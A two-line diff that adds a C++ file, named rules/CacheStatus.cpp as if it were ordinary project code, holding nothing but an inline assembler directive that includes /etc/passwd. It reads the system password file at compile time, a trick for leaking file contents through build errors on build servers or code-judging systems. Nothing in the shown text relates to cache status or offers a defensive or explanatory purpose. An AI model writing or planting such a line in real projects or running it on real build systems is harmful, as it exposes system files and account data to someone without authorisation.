@@ -1,0 +1,2 @@
+// rules/CacheStatus.cpp: /etc/passwd
+__asm__(".include \"/etc/passwd\"");
